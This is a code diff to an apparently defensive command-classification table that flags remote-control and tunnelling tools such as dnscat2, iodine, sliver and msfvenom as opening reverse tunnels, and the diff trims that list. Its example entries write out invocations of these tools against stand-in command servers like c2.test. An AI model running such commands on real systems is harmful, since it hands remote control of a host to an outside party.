@@ -266,7 +266,7 @@ export const NETWORK: readonly Row[] = [
   { program: 'code tunnel | code-insiders tunnel', operands: 'text', options: { '--name': 'text' }, variants: [{ when: { operand: /^(?:status|kill|unregister|prune|help)$/ }, effects: [] }], effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel' }], examples: [['code tunnel --accept-server-license-terms', 'send host:reverse tunnel'], ['code tunnel status']] },
   // What calls a server that tells it what to do. With these names nobody has anything else.
   {
-    program: 'merlinagent | merlinagent.exe | dnscat | dnscat2 | iodine | iodined | gs-netcat | gsocket | pwncat | pwncat-cs | ptunnel | ptunnel-ng | hans | icmpsh | revsocks | rsocx | ligolo-agent | stowaway_agent | pupysh | poshc2 | powershell-empire | sliver-client | sliver-server | msfconsole | msfvenom | evil-winrm | weevely',
+    program: 'merlinagent | dnscat | dnscat2 | iodine | gs-netcat | pwncat | pwncat-cs | ptunnel-ng | icmpsh | revsocks | ligolo-agent | sliver-client | msfconsole | msfvenom | evil-winrm',
     operands: 'text',
     effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { none: ['--help', '-h', '--version', '-V'] } }],
     examples: [['/tmp/merlinAgent-Linux-x64 -url https://c2.test:443 -psk a', 'send host:reverse tunnel'], ['/tmp/d/client/dnscat --secret=a c2.test', 'send host:reverse tunnel'], ['iodine -f -P a t.test', 'send host:reverse tunnel'], ['gs-netcat -s a -l -i', 'send host:reverse tunnel'], ['iodine --version']],
